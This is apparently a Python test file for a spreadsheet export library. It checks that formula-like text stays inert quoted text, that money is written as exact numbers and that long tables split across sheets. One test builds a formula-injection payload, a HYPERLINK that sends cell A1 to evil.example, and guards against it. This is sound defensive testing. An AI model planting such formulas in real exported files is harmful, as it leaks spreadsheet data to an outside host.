"""T51 for workbooks: what is text stays exactly that text and is never calculated; money is a number; long tables take another sheet."""

from __future__ import annotations

import io
import zipfile
from decimal import Decimal
from xml.etree import ElementTree

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from kit.coverage import covers
from kit.sheets import Cell, yuan_cell
from kit.workbooks import MOST_CHARACTERS, write_workbook

calm = settings(deadline=None, suppress_health_check=list(HealthCheck), derandomize=True, database=None)
MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def made(heads: list[str], rows: list[list[Cell]], **more: int) -> zipfile.ZipFile:
    out = io.BytesIO()
    write_workbook(out, heads, rows, **more)
    return zipfile.ZipFile(io.BytesIO(out.getvalue()))


def cells(book: zipfile.ZipFile, sheet: int = 1) -> list[list[ElementTree.Element]]:
    root = ElementTree.fromstring(book.read(f"xl/worksheets/sheet{sheet}.xml"))
    return [list(row) for row in root.iter(f"{MAIN}row")]


def value(cell: ElementTree.Element) -> str:
    return "".join(cell.itertext())


def quoted(book: zipfile.ZipFile, cell: ElementTree.Element) -> bool:
    styles = ElementTree.fromstring(book.read("xl/styles.xml")).find(f"{MAIN}cellXfs")
    assert styles is not None
    return styles[int(cell.get("s", "0"))].get("quotePrefix") == "1"


def naive(text: str) -> ElementTree.Element:
    """The naive variant: what looks like a formula is written as one, as libraries do by default."""
    cell = ElementTree.Element(f"{MAIN}c")
    ElementTree.SubElement(cell, f"{MAIN}f" if text.startswith("=") else f"{MAIN}v").text = text.removeprefix("=")
    return cell


@covers("T51")
@pytest.mark.parametrize("start", STARTS)
def test_a_text_that_begins_like_a_formula_is_text_and_stays_so_when_it_is_edited(start: str) -> None:
    attack = f'{start}HYPERLINK("http://evil.example/?"&A1,"open")'
    book = made([attack], [[attack, 1]])
    for row in cells(book):
        assert row[0].get("t") == "inlineStr" and value(row[0]) == attack and quoted(book, row[0])
    assert not any(b"<f" in book.read(name).replace(b"<font", b"").replace(b"<fill", b"") for name in book.namelist())
    assert naive("=1+1").find(f"{MAIN}f") is not None, "the naive workbook calculates"


@covers("T51")
@calm
@given(st.lists(st.text(max_size=60), min_size=1, max_size=5))
def test_whatever_is_written_comes_back_as_it_was_save_what_xml_cannot_hold(texts: list[str]) -> None:
    book = made(["a"], [texts])
    row = cells(book)[1]
    assert all(cell.get("t") == "inlineStr" and cell.find(f"{MAIN}f") is None for cell in row)
    back, sent = [value(cell) for cell in row], [text.replace("\x00", "") for text in texts]
    assert [len(one) for one in back] == [len(one) for one in sent]
    assert all(a == b or a == "\ufffd" for one, other in zip(back, sent, strict=True) for a, b in zip(one, other, strict=True))
    assert all(quoted(book, cell) for cell, text in zip(row, sent, strict=True) if text.startswith(STARTS))


@covers("T51")
@calm
@given(st.integers(-(10**14), 10**14))
def test_money_is_a_number_to_the_fen(fen: int) -> None:
    (cell,) = cells(made(["金额（元）"], [[yuan_cell(fen)]]))[1]
    assert cell.get("t") is None and Decimal(value(cell)) * 100 == fen


def test_a_number_a_spreadsheet_would_round_is_written_as_text() -> None:
    (cell,) = cells(made(["n"], [[2**60]]))[1]
    assert (cell.get("t"), value(cell)) == ("inlineStr", str(2**60))


def test_a_table_longer_than_a_sheet_goes_on_under_the_same_heads() -> None:
    book = made(["n"], [[n] for n in range(5)], most=3)
    assert [[value(cell) for row in cells(book, sheet) for cell in row] for sheet in (1, 2, 3)] == [
        ["n", "0", "1"], ["n", "2", "3"], ["n", "4"]]
    assert book.testzip() is None and b"sheet3.xml" in book.read("[Content_Types].xml")


def test_an_empty_table_has_its_heads_and_a_long_text_is_cut_where_a_cell_ends() -> None:
    assert [[value(cell) for cell in row] for row in cells(made(["编号", "金额"], []))] == [["编号", "金额"]]
    assert len(value(cells(made(["a"], [["x" * 40_000]]))[1][0])) == MOST_CHARACTERS


def test_the_same_table_is_the_same_file() -> None:
    first, again = io.BytesIO(), io.BytesIO()
    for out in (first, again):
        write_workbook(out, ["a"], [["x", 1]])
    assert first.getvalue() == again.getvalue()
